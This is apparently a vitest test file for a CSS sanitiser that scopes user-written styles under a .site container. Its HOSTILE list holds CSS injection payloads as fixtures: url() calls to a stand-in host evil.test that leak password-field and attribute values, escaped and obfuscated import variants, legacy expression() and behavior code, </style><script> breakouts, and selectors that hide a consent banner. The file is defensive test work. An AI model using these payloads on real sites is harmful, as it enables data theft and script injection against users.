import { describe, expect, it } from 'vitest';
import { MAX_CODE_CHARS } from '#core/domain/site/site-code.ts';
import { compileCss } from './compile-css.ts';

/** Returns the compiled rules without their layer and the containment. */
function rules(source: string): string {
  const { css } = compileCss(source);
  if (css === '') return '';
  expect(css).toMatch(/^@layer studio\{.*\}\.site\{contain:paint\}$/s);
  return css.slice('@layer studio{'.length, -'}.site{contain:paint}'.length);
}
const codes = (source: string) => compileCss(source).problems.map(({ code }) => code);

describe('permitted CSS', () => {
  it.each([
    ['h1{color:red}', '.site h1{color:red}'],
    ['body{margin:0}', '.site{margin:0}'],
    ['html body > .row{gap:1rem}', '.site>.row{gap:1rem}'],
    [':root{--gap:2px}', '.site{--gap:2px}'],
    ['body.dark h1,.x:hover::before{top:0}', '.site.dark h1,.site .x:hover::before{top:0}'],
    ['.a:is(.b,.c)>d{width:calc(1px + (2px*3))}', '.site .a:is(.b,.c)>d{width:calc(1px + (2px*3))}'],
    ['a{background:url("/site/abc-480.webp")}', '.site a{background:url(/site/abc-480.webp)}'],
    ['a{color:red!important;;}', '.site a{color:red!important}'],
    ['@media (width < 600px){a{color:red}}', '@media (width<600px){.site a{color:red}}'],
    ['@supports (display:grid){a{top:0}}', '@supports (display:grid){.site a{top:0}}'],
    ['@container card (min-width:3px){a{top:0}}', '@container card (min-width:3px){.site a{top:0}}'],
    ['@keyframes in{from{opacity:0}50%,to{opacity:1}}', '@keyframes in{from{opacity:0}50%,to{opacity:1}}'],
    ['a{--x:;color:var(--x,#123)}', '.site a{--x:;color:var(--x,#123)}'],
    ['a::before{content:"\\2022  é"}', '.site a::before{content:"• é"}'],
    ['li:nth-child(2n+1 of .x){top:0}', '.site li:nth-child(2n+1 of.x){top:0}'],
    ['a{grid-template:[x] 1fr/"a b"}', '.site a{grid-template:[x]1fr/"a b"}'],
  ])('%s compiles without a problem', (source, compiled) => {
    expect(compileCss(source).problems).toEqual([]);
    expect(rules(source)).toBe(compiled);
  });

  it('names line and column of each refused part and keeps the rest', () => {
    const source = 'h1 { color: red }\n@import "x";\nh2 {\n  color: blue;\n  behavior: url(x);\n}\n';
    expect(compileCss(source).problems).toEqual([
      { code: 'at_rule', line: 2, column: 1, found: '@import "x";' },
      { code: 'property', line: 5, column: 3, found: 'behavior: url(x)' },
    ]);
    expect(rules(source)).toBe('.site h1{color:red}.site h2{color:blue}');
  });
});

/** Each is refused whole or in the part that is hostile; nothing that matches the pattern is left. */
const HOSTILE: readonly (readonly [string, RegExp])[] = [
  // Loading from elsewhere
  ['@import "https://evil.test/a.css";', /evil/],
  ['@import url(//evil.test);', /evil/],
  ['@\\69mport "https://evil.test/a.css";', /evil/],
  ['@charset "utf-8";a{top:0}', /charset/],
  ['@namespace svg url(https://evil.test);', /evil/],
  ['@font-face{font-family:x;src:url(https://evil.test/x)}', /evil|font-face/],
  ['@font-face{font-family:x;unicode-range:U+41;src:url(https://evil.test/A)}', /evil/],
  ['@property --x{syntax:"<url>";inherits:true;initial-value:url(https://evil.test)}', /evil|property/],
  ['@counter-style x{system:fixed;symbols:url(https://evil.test)}', /evil/],
  ['@page{background:url(https://evil.test)}', /evil/],
  ['@view-transition{navigation:auto}', /view/],
  ['@font-palette-values --x{font-family:y}', /palette/],
  ['input[type=password]{background:url(https://evil.test/p)}', /evil/],
  ['input[value^="a"]{background:red}', /value/],
  ['a[href^="/p"]{background:url("https://evil.test/?p")}', /evil/],
  ['a{background:url(//evil.test/x)}', /evil/],
  ['a{background:url(\\2f\\2f evil.test)}', /evil/],
  ['a{background:\\75rl(https://evil.test)}', /evil/],
  ['a{background:u\\72l("https://evil.test")}', /evil/],
  ['a{background:URL(HTTPS://EVIL.TEST)}', /evil/i],
  ['a{background:url(data:image/svg+xml,<svg/>)}', /data/],
  ['a{background:url(javascript:alert(1))}', /javascript/],
  ['a{background:url(blob:https://x/1)}', /blob/],
  ['a{background:url(/api/p/x)}', /api/],
  ['a{background:url(/site/../api/p/x)}', /api/],
  ['a{background:url(/site/%2e%2e/api)}', /api/],
  ['a{background:url(/site/a?b=1)}', /b=1/],
  ['a{background:url(site/a)}', /url/],
  ['a{background:url(var(--x))}', /url/],
  ['a{background:image-set("https://evil.test/x" 1x)}', /evil/],
  ['a{background:-webkit-image-set("https://evil.test/x" 1x)}', /evil/],
  ['a{background:src("https://evil.test/x")}', /evil/],
  ['a{background:cross-fade("https://evil.test/x",red)}', /evil/],
  ['a{background:image("https://evil.test/x")}', /evil/],
  ['a{background:element(#x)}', /element/],
  ['a{background:paint(x)}', /paint\(/],
  ['a{content:attr(href)}', /attr/],
  ['a{--x:url(https://evil.test);background:var(--x)}', /evil/],
  ['a{--x:{b:url(https://evil.test)}}', /evil/],
  ['a{color:var(--x,url(https://evil.test))}', /evil/],
  ['a{cursor:url("https://evil.test/c"),auto}', /evil/],
  ['@keyframes x{from{background:url(https://evil.test)}}', /evil/],
  ['@media screen{@import "https://evil.test";}', /evil/],
  ['@supports (background:url(https://evil.test)){a{top:0}}', /evil/],
  ['@media foo(url(https://evil.test)){a{top:0}}', /evil/],
  // Code in old browsers
  ['a{width:expression(alert(1))}', /expression/],
  ['a{width:ex/**/pression(alert(1))}', /pression/],
  ['a{behavior:url(/site/x)}', /behavior/],
  ['a{-moz-binding:url(/site/x)}', /binding/],
  ['a{-ms-behavior:url(/site/x)}', /behavior/],
  ['a{beh\\61vior:url(/site/x)}', /site\/x/],
  ['a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="//evil.test")}', /evil/],
  // Leaving the page's box
  ['.site{contain:none}', /none/],
  ['.site{contain:none!important}', /none/],
  ['.site{all:unset!important}', /unset/],
  ['.site~.consent{display:none}', /consent/],
  ['body+*{display:none}', /display/],
  ['~ .consent{display:none}', /display/],
  ['::backdrop{background:red}', /backdrop/],
  ['::view-transition{display:none}', /transition/],
  [':host{top:0}', /host/],
  ['a{&:hover{top:0}}', /hover/],
  ['a{.consent &{top:0}}', /consent/],
  ['a{@media screen{top:0}}', /media/],
  ['@scope(.consent){a{top:0}}', /consent/],
  ['@layer base{a{top:0}}', /base/],
  ['@layer studio,base;', /base/],
  ['.\\73 ite~p{top:0}', /top:0/],
  ['svg|a{top:0}', /svg/],
  // Ending early
  ['}.consent{display:none}', /\}\.consent/],
  ['a{color:red}}.consent{display:none}', /site \.consent|\}\.consent/],
  ['a{color:red', /red(?!\})/],
  ['a{content:"</style><script>alert(1)</script>"}', /<\/|<!--/],
  ['a{content:"<!--"}', /<!--/],
  ['a[title="</style>"]{top:0}', /<\//],
  ['</style><script>alert(1)</script>', /script/],
  ['<!-- a{top:0} -->', /<!--|-->/],
  ['a{content:"x', /"x(?!")/],
  ['a{content:"x\n}b{background:url(https://evil.test)}', /evil/],
  ['a{background:url(https://evil.test', /evil/],
  ['a{color:red;/* ', /\/\*/],
  ['@media screen{a{color:red}', /^@media screen\{.site a\{color:red\}$/],
  ['@media screen and \\28 (x){a{top:0}}', /\\/],
];

describe('hostile CSS', () => {
  it.each(HOSTILE)('%s loses its hostile part', (source, pattern) => {
    // Another rule before and behind is not drawn in.
    for (const around of [source, `h1{top:1px}${source}`]) {
      const { css } = compileCss(around);
      expect(css).not.toMatch(pattern);
      if (around !== source) expect(css).toContain('.site h1{top:1px}');
      expect(css).not.toMatch(/<[/!]|@(?:import|charset|namespace|font-face|property|scope)/);
      for (const [, url] of css.matchAll(/url\(([^)]*)\)/gi)) expect(url).toMatch(/^\/site\//);
    }
  });

  it('compiles to what compiles to itself, so the parser and the generator agree', () => {
    for (const [source] of HOSTILE) {
      const once = rules(source);
      const { problems } = compileCss(once.replaceAll('<\\', '<'));
      expect([source, problems]).toEqual([source, []]);
    }
  });

  it('takes bounded time at its full length', () => {
    const fill = (part: string) => part.repeat(Math.ceil(MAX_CODE_CHARS / part.length)).slice(0, MAX_CODE_CHARS);
    const parts = [
      'a{',
      '(',
      'a,',
      'a ',
      '/*',
      '"',
      'a{b:c}',
      '@media x{',
      ':is(',
      '[',
      '\\',
      'a:has(b) ',
      ';',
      '}',
      'a{b:c;',
      '!',
      'a>',
      '*',
      '@;',
      'a{@;',
    ];
    for (const part of parts) {
      const start = performance.now();
      const { css } = compileCss(fill(part));
      expect([part, performance.now() - start < 2_000]).toEqual([part, true]);
      expect(css.length).toBeLessThan(500_000);
    }
  });

  it('is bounded in depth, rules, selectors and searches', () => {
    expect(codes(`a{width:${'('.repeat(40)}1${')'.repeat(40)}}`)).toEqual(['limit']);
    expect(codes('a{top:0}'.repeat(3_100))).toEqual(['limit']);
    expect(codes(`${'a,'.repeat(70)}a{top:0}`)).toEqual(['limit']);
    expect(codes(`${'a '.repeat(30)}{top:0}`)).toEqual(['limit']);
    expect(codes('a:has(b):has(c):has(d):has(e){top:0}')).toEqual(['limit']);
    expect(codes(`${'@media print{'.repeat(6)}a{top:0}${'}'.repeat(6)}`)).toEqual(['limit']);
  });
});
